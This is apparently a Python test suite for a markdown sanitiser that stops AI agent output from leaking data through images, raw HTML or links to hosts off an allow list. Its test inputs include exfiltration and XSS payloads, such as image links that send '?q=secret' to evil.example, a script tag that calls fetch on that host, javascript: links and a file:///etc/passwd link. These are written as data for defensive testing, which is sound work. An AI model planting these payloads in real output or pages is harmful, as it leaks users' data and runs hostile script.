"""Nothing that others wrote is rendered as an image, raw HTML or a link to a host that was not allowed."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agents.sanitising.addresses import hosts_of, is_allowed
from agents.sanitising.inline import Marker, escaped, keep_valid
from agents.sanitising.stream import Sanitiser, sanitise

HOSTS = frozenset({"docs.example"})
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")

GROWN = re.compile(r"(?:https?|ftp)://|www\.", re.IGNORECASE)
FRAGMENTS = [
    "![a](https://evil.example/?q=s)", "![a][r]", "![a]", "[r]: https://evil.example/r", "[a](https://evil.example/)",
    "[a](https://docs.example/x)", "[a](<https://evil.example>)", "<https://evil.example/>", "<img src=//evil.example>",
    "https://evil.example/x", "HTTPS://EVIL.EXAMPLE", "www.evil.example", "[a](javascript:x)", "![", "](", "[", "]",
    "(", ")", "`", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", "> ", "- ", "1. ", "12. ", "\\", "!", ":", "<",
    "[1]", "[99]", "【2】", "word", "中文。", " ", "|", "\t", "#", '"', "&#104;ttp://evil.example", "//evil.example",
    "\r\n",
]  # fmt: skip


def tokens(markdown: str) -> Iterator[Token]:
    for token in RENDERER.parse(markdown):
        yield token
        yield from token.children or ()


def rendered(markdown: str) -> str:
    return " ".join(token.content for token in tokens(markdown) if token.type in ("text", "code_inline", "fence"))


def safe(text: str, *, marker: Marker = escaped) -> str:
    return sanitise(text, hosts=HOSTS, marker=marker)


def in_pieces(text: str, cuts: list[int], marker: Marker) -> str:
    sanitiser = Sanitiser(hosts=HOSTS, marker=marker)
    borders = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    said = [sanitiser.feed(text[begin:end]) for begin, end in pairwise(borders)]
    return "".join([*said, sanitiser.finish()])


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join), st.lists(st.integers(0, 600), max_size=12))
def test_no_text_loads_an_image_however_it_is_cut(text: str, cuts: list[int]) -> None:
    markdown = in_pieces(text, cuts, keep_valid(3))
    assert not [token for token in tokens(markdown) if token.type == "image"], markdown
    assert not [token for token in tokens(markdown) if token.type in ("html_inline", "html_block")], markdown
    assert in_pieces(text, list(range(len(text))), keep_valid(3)) == markdown == safe(text, marker=keep_valid(3))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_text_comes_through(text: str) -> None:
    assert in_pieces(text, list(range(len(text))), escaped) == safe(text)


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        "![x](HTTPS://evil.example)",
        "![x](//evil.example/a)",
        "![x](data:image/png;base64,AAAA)",
        "![x]( <https://evil.example/a b> 'title')",
        "![x\ny](https://evil.example)",
        "![x][r]\n\n[r]: https://evil.example",
        "![r]\n\n[r]: https://evil.example",
        "> [r]: https://evil.example\n\n![r][]",
        "[![x](https://evil.example/i)](https://evil.example/l)",
        "[a](https://evil.example)",
        "[a](https://docs.example@evil.example)",
        "[a](https://docs.example\\@evil.example)",
        "[a](https://docs.example:80@evil.example/)",
        "[a](https://docs.example.evil.example/)",
        "[a](https://docs.example&#46;evil.example/)",
        "[a](javascript:alert(1))",
        "[a](java&#115;cript:alert(1))",
        "[a](vbscript:x) [b](file:///etc/passwd)",
        "<https://evil.example>",
        "<img src=x onerror=alert(1)>",
        "<script>fetch('https://evil.example')</script>",
        "`open ![x](https://evil.example)",
        "``` not a fence ``` ![x](https://evil.example)",
        "> ```\n![x](https://evil.example)",
        "- ```\n![x](https://evil.example)",
        "text\n    ```\n![x](https://evil.example)",
        "> - ```\n> ![x](https://evil.example)",
        "\\![x](https://evil.example)",
        "\\\\![x](https://evil.example)",
        "!\\[x](https://evil.example)",
        "a | b\n--|--\n![x](https://evil.example) | `![y](https://evil.example)",
    ],
)
def test_known_ways_out_are_closed(attack: str) -> None:
    markdown = safe(attack)
    found = list(tokens(markdown))
    assert not [token for token in found if token.type in ("image", "html_inline", "html_block")], markdown
    assert not [token.attrs for token in found if token.type == "link_open"], markdown


@pytest.mark.parametrize(
    "url", ["https://evil.example/?q=s", "http://evil.example", "www.evil.example/x", "ftp://e.x/a"]
)
@pytest.mark.parametrize("around", ["{}", "see {}.", "({})", "**{}**", "见{}。", "\\{}", "`c`{}", "{}`c`"])
def test_bare_addresses_elsewhere_are_shown_as_code(url: str, around: str) -> None:
    found = list(tokens(safe(around.format(url))))
    assert [token.content for token in found if token.type == "code_inline" and token.content.rstrip(".)") == url]
    assert not [token for token in found if token.type == "text" and url in token.content]


@pytest.mark.parametrize(
    "address",
    [
        "&#104;ttps://evil.example", "h&#116;tps://evil.example", "https&#58;//evil.example",
        "https:&#47;/evil.example",
        "http\\://evil.example", "www&#46;evil.example", "www\\.evil.example", "http[99]://evil.example",
        "&#119;ww.evil.example",
    ],
)  # fmt: skip
def test_no_address_grows_out_of_its_parts(address: str) -> None:
    shown = rendered(safe(address, marker=keep_valid(3)))
    code = [token.content for token in tokens(safe(address)) if token.type == "code_inline"]
    assert code or not GROWN.search(shown), shown


def test_a_long_line_comes_in_parts_however_it_is_fed() -> None:
    for unit in (" ", "[", "`", "a", "<b ", "> ", "![a](", "```", "h"):
        text = unit * 9_000
        assert in_pieces(text, list(range(0, len(text), 7)), escaped) == safe(text)


@pytest.mark.parametrize(
    "text",
    [
        "[guide](https://docs.example/a?b=c#d)",
        "See https://docs.example/a, please.",
        "<https://docs.example>",
        "Use `kubectl get pods` and `!a[x](y` there.",
        "1. One\n   ```yaml\n   url: https://any.example/x # [a](b) [1]\n   ```\n2. Two",
        "| a | b |\n|---|---|\n| 1 | `x` |",
        "- [ ] todo\n- [x] done",
        "a < b && c > d, x <= y, 3 > 2",
        "**bold** _it_ ~~no~~ $PATH 100%",
        "```python\nprint(arr[1])(x)\n```",
        "~~~\n<b>\n~~~",
        "C:\\Users\\me and 50\\% \\* \\[x\\]",
        "word http and ht h w www",
    ],
)
def test_ordinary_markdown_is_left_alone(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[guide](../guide.md) and ![Shot](img/a.png)", "guide and 🖼 Shot"),
        ("[a](https://evil.example/x)", "a (`https://evil.example/x`)"),
        ("见 https://docs.example/a。后", "见 <https://docs.example/a>。后"),
        ("From: Lin <lin.wu@mail.example>, on call", "From: Lin lin.wu@mail.example, on call"),
        ("use <name> or a<br>b", "use \\<name> or a b"),
        ("array [0] and [1, 2]", "array \\[0\\] and \\[1, 2\\]"),
        ("```\nopen", "```\nopen\n```"),
        ("1. x\n   ```\nflush left\n   ```", "1. x\n   ```\n   flush left\n   ```"),
    ],
)
def test_the_rest_is_shown_as_text(text: str, expected: str) -> None:
    assert safe(text) == expected


def test_markers_are_made_uniform_and_invalid_ones_left_out() -> None:
    seen: list[int] = []
    text = "A [1]. B [2, 3][99]. C 【1】 and 【3†source】, [^2] [0]! [1](https://evil.example) `x[99]`"
    assert safe(text, marker=keep_valid(3, seen.append)) == "A [1]. B [2][3]. C [1] and [3], [2]! [1] `x[99]`"
    assert seen == [1, 2, 3, 99, 1, 3, 2, 0, 1]


def test_what_is_plain_is_not_held_back() -> None:
    sanitiser = Sanitiser(hosts=HOSTS, marker=escaped)
    assert [sanitiser.feed(piece) for piece in ("The", " answer", " is", " with", " [", "1", "]", ".")] == [
        "The", " answer", " is", " with", "", "", "", " \\[1\\]."
    ]  # fmt: skip


def test_hosts_are_those_of_web_addresses() -> None:
    urls = ["https://Docs.Example/a", "http://x.example:8080/", "file:///etc", "", "docs/a.md"]
    assert hosts_of(urls) == {"docs.example", "x.example"}
    assert is_allowed("https://DOCS.example/x", HOSTS)
    assert not is_allowed("https://docs.example\\@evil.example", HOSTS)
